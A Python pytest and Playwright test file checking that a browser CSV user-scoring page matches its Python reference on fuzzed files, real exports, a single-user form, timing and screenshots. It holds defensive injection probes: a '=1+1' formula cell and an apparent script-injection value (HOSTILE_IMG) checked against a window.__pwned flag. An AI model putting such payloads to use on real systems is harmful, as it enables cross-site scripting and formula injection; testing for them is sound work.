                "é😀", "\t5", "=1+1", "True", "3205", "99999", "\ufeff1", "1000000", "1000001"]


def random_file(rng: np.random.Generator) -> str:
    """A CSV of synthetic users with random garbage cells, ids, line ends, BOM, blank lines."""
    n = int(rng.integers(1, 25))
    users = make_users(n, seed=int(rng.integers(0, 10_000))).astype(str)
    columns = ["identifierHash", "socialNbFollowers", "productsSold", "productsBought",
               "daysSinceLastLogin", "seniority", "country"]
    for _ in range(int(rng.integers(0, 2 * n + 1))):
        users.iloc[int(rng.integers(0, n)), users.columns.get_loc(str(rng.choice(columns)))] = \
            str(rng.choice(GARBAGE_POOL))
    for _ in range(int(rng.integers(0, 3))):
        src, dst = rng.integers(0, n, 2)
        users.iloc[dst, 0] = users.iloc[src, 0]
    if rng.random() < 0.3:
        users = users.drop(columns=["seniority"])
    ending = str(rng.choice(["\r\n", "\n"]))  # "\n" leaves lone CRs unquoted: ragged rows
    buf = io.StringIO()
    users.to_csv(buf, index=False, lineterminator=ending)
    text = buf.getvalue()
    if rng.random() < 0.3:
        header, rest = text.split(ending, 1)
        text = header + ending + ending + rest + ending  # blank lines
    if rng.random() < 0.2:
        text = "\ufeff" + text
    return text


LONE_CR = re.compile(r"\r(?!\n)")


def test_random_files_agree_with_python(browser, server, model, tmp_path):
    rng = np.random.default_rng(77)
    outcomes = {"scored": 0, "file error": 0}
    with opened(browser, f"{server}/index.html") as page:
        for _ in range(60):
            data = random_file(rng).encode("utf-8")
            js = js_score(page, data, "input.csv", chosen_of(model))
            try:
                py = py_score(data, "input.csv", model, tmp_path)
            except InputError as err:
                assert isinstance(js, dict) and js.get("name") == "InputError", (data, js)
                js_words, py_words = first_sentence(js["error"]), first_sentence(str(err))
                if LONE_CR.search(data.decode("utf-8")):  # Python numbers ragged lines by LF
                    js_words, py_words = (re.sub(r"line \d+", "line N", w)
                                          for w in (js_words, py_words))
                assert js_words == py_words
                outcomes["file error"] += 1
                continue
            assert_same(js[0], *py)
            outcomes["scored"] += 1
    assert min(outcomes.values()) > 0, outcomes


def test_one_user_form_matches_python(browser, server, model):
    user = make_users(1, seed=21)
    expected = scoring.score_frame(user, model, seniority=user["seniority"].to_numpy()).iloc[0]
    with opened(browser, f"{server}/index.html") as page:
        fields = page.locator("[data-part=oneFields] input").evaluate_all(
            "inputs => inputs.map(i => i.name)")
        assert fields == model["required_columns"] + model["optional_columns"]
        for column in fields:
            page.fill(f"#c2c-one-{column}", str(user[column].iloc[0]))
        page.click("[data-part=one] button[type=submit]")
        shown = {name: page.locator(f"[data-part=oneResult] dd[data-field={name}]").inner_text()
                 for name in ("cluster", "tier", "segment", "reason", "distance", "margin")}
        assert shown["cluster"] == str(expected["cluster"])
        assert [shown["tier"], shown["segment"], shown["reason"]] == \
            [expected["tier"], expected["segment"], expected["reason"]]
        for name in ("distance", "margin"):
            assert math.isclose(float(shown[name]), expected[name], abs_tol=FLOAT_TOLERANCE)
        page.fill("#c2c-one-identifierHash", HOSTILE_IMG)
        page.fill("#c2c-one-productsSold", "-1")
        page.click("[data-part=one] button[type=submit]")
        items = page.locator("[data-part=oneResult] li").all_inner_texts()
        assert items == [f'identifierHash "{HOSTILE_IMG}" is not '
                         f'{model["kinds"]["identifierHash"]["expected"]}',
                         'productsSold "-1" is negative']
        assert page.evaluate("() => window.__pwned") is None


def test_a_worker_that_cannot_start_gives_way_to_the_page(browser, server, model, tmp_path):
    data = make_users(40, seed=9).to_csv(index=False).encode()
    py, py_out, _ = py_score(data, "users.csv", model, tmp_path)
    with opened(browser, f"{server}/index.html") as page:
        page.context.route("**/scorer-worker.js", lambda route: route.abort())
        assert choose(page, csv_payload("users.csv", data)) == "done"
        assert page.get_attribute("#c2c-scorer", "data-engine") == "page"
        assert_same_csv(download(page, "downloadScored")[1], py_out)
        blocked = [e for e in page.watch.errors if e.endswith("/_static/scorer-worker.js")]
        assert len(blocked) == 1  # the request this test refused, nothing else
        page.watch.errors.remove(blocked[0])


def test_page_works_from_file_url_without_a_worker(browser, site, model, tmp_path):
    users = make_users(70, seed=8).astype(str)
    users.loc[2, "daysSinceLastLogin"] = "5000"
    data = users.to_csv(index=False).encode()
    py, py_out, py_rej = py_score(data, "users.csv", model, tmp_path)
    with opened(browser, (site / "index.html").as_uri()) as page:
        assert page.get_attribute("#c2c-scorer", "data-engine") == "page"
        assert choose(page, csv_payload("users.csv", data)) == "done"
        assert summary(page).startswith(f"70 rows in, {len(py.scored)} scored, "
                                        f"{len(py.rejected)} rejected")
        assert_same_csv(download(page, "downloadScored")[1], py_out)
        assert_same_csv(download(page, "downloadRejected")[1], py_rej)
        assert [r.url.split(":", 1)[0] for r in page.watch.requests
                if not r.url.startswith("data:")] == ["file"] * 6  # page, 2 css, 3 scripts


# --------------------------------------------------------------------------------------------
# The real data: parity on every solution, the whole file in the page, screenshots
# --------------------------------------------------------------------------------------------

def real_sample(real_text: str, size: int = 1000, seed: int = 2024) -> bytes:
    """``size`` rows of the real export, a fixed random sample, as a CSV file's bytes."""
    lines = real_text.splitlines()
    rows = sorted(np.random.default_rng(seed).choice(np.arange(1, len(lines)), size=size,
                                                     replace=False))
    return ("\n".join([lines[0]] + [lines[i] for i in rows]) + "\n").encode("utf-8")


@pytest.mark.slow
@pytest.mark.realdata
def test_parity_with_python_on_1000_real_rows_for_every_solution(
        browser, real_server, real_model, real_artifacts, real_text, tmp_path, capsys):
    data = real_sample(real_text)
    solutions = [(s["algorithm"], s["k"]) for s in real_model["solutions"]]
    labels = pd.read_parquet(real_artifacts[0] / "labels.parquet").set_index("identifierHash")
    with opened(browser, f"{real_server}/index.html") as page:
        results = js_score(page, data, "sample.csv", solutions)
        nudged = js_score(page, data, "sample.csv", solutions[:1], nudge=True)[0]
    assert len(solutions) == 2 * len(load_config().kmeans.ks)  # K-Means and Ward, every k
    gaps, ties = [], 0
    for (algorithm, k), js in zip(solutions, results, strict=True):
        py, py_out, py_rej = py_score(data, "sample.csv", real_model, tmp_path, algorithm, k)
        gaps.append(assert_same(js, py, py_out, py_rej))
        assert (js["algorithm"], js["k"], len(js["ids"])) == (algorithm, k, 1000)
        published = labels.loc[[int(i) for i in js["ids"]], f"{algorithm}_k{k}"].to_numpy()
        assert (np.array(js["cluster"]) == published).all(), f"{algorithm} k={k}"
        ties += sum(js["tied"])
    # One ulp on the browser's side is still the same result; a different cluster is not.
    py_out = py_score(data, "sample.csv", real_model, tmp_path, *solutions[0])[1]
    assert nudged["scoredCsv"] != py_out
    assert_same_csv(nudged["scoredCsv"], py_out)
    rows = list(csv.reader(io.StringIO(nudged["scoredCsv"], newline="")))
    rows[1][1] = str((int(rows[1][1]) + 1) % solutions[0][1])
    changed = "".join(",".join(row) + "\r\n" for row in rows)
    with pytest.raises(AssertionError):
        assert_same_csv(changed, py_out)
    with capsys.disabled():
        print(f"\n[parity] 18 solutions x 1,000 real rows: ids, clusters, tiers, segments, "
              f"reasons, ties ({ties} tied) and rejects identical; every cluster is the "
              f"published one; largest distance/margin gap {max(gaps):.1e}")


def bar_counts(page, part: str) -> dict[str, int]:
    return dict(page.locator(f"[data-part={part}] .c2c-bar-row").evaluate_all(
        "rows => rows.map(r => [r.dataset.name, Number(r.dataset.count)])"))


@pytest.mark.slow
@pytest.mark.realdata
def test_the_whole_real_file_scores_in_the_page_within_3_s(
        browser, real_server, real_data, real_artifacts, real_model, tmp_path, capsys):
    with zipfile.ZipFile(real_data) as archive:  # unzipped here, into the test's folder
        csv_path = Path(archive.extract(archive.namelist()[0], tmp_path))
    manifest = real_artifacts[1]
    chosen = manifest["chosen"]
    rows = manifest["rows_in"]
    name = real_model["algorithm_names"][chosen["algorithm"]]
    labels = pd.read_parquet(real_artifacts[0] / "labels.parquet")
    times = {}
    with opened(browser, f"{real_server}/index.html") as page:
        assert page.get_attribute("#c2c-scorer", "data-engine") == "worker"
        for path in (csv_path, real_data):
            started = time.perf_counter()
            assert choose(page, str(path)) == "done", message(page)
            wall = time.perf_counter() - started
            in_page = int(page.get_attribute("#c2c-scorer", "data-elapsed-ms")) / 1000
            times[path.suffix] = (path.stat().st_size, in_page, wall)
            assert summary(page) == (f"{rows:,} rows in, {rows:,} scored, 0 rejected "
                                     f"({name}, k = {chosen['k']})")
            assert bar_counts(page, "tierBars") == manifest["tiers"]
            assert sum(bar_counts(page, "segmentBars").values()) == rows
            if path == csv_path:
                scored_csv = download(page, "downloadScored")[1]
    with capsys.disabled():
        print("\n[timing] file choice -> summary, in the page (wall clock in brackets): " +
              "; ".join(f"{suffix} {size / 1e6:.1f} MB {t:.2f} s ({w:.2f} s)"
                        for suffix, (size, t, w) in times.items()))
    # The one timed assertion of the suite, on purpose: issue 12 sets "the full real export
    # scores in the browser in <= 3 s on this machine" as acceptance. Measured here 0.8-1.4 s
    # on a loaded 2-core machine, so the bound has a 2x margin; everything else is untimed.
    for _, in_page, _ in times.values():
        assert in_page <= 3.0
    scored = pd.read_csv(io.StringIO(scored_csv), dtype={"identifierHash": "int64"},
                         keep_default_na=False)
    assert len(scored) == rows and scored["identifierHash"].is_unique
    both = scored.merge(labels, on="identifierHash", suffixes=("", "_published"))
    assert len(both) == rows
    key = f"{chosen['algorithm']}_k{chosen['k']}"
    assert (both["cluster"] == both[key]).all()
    for column in ("tier", "segment", "reason"):
        assert (both[column] == both[f"{column}_published"].astype(str)).all(), column


@pytest.mark.slow
@pytest.mark.realdata
@pytest.mark.parametrize("width", [390, 1366])
def test_screenshots_before_and_after_scoring(browser, real_server, real_text, width):
    lines = real_sample(real_text, 300).decode("utf-8").splitlines()
    broken = broken_users().iloc[:6].to_csv(index=False, header=False).splitlines()
    data = ("\n".join(lines + broken) + "\n").encode("utf-8")
    no_overflow = "() => document.documentElement.scrollWidth <= window.innerWidth"
    with opened(browser, f"{real_server}/index.html", width=width) as page:
        shot(page, f"score-{width}-before.png")
        assert page.evaluate(no_overflow)
        assert choose(page, csv_payload("sample.csv", data)) == "done"
        page.locator("details.c2c-explain summary").click()
        page.click("[data-part=one] button[type=submit]")
        shot(page, f"score-{width}-after.png")
        assert page.evaluate(no_overflow)
        page.evaluate("() => document.documentElement.setAttribute('data-theme', 'dark')")
        shot(page, f"score-{width}-after-dark.png")
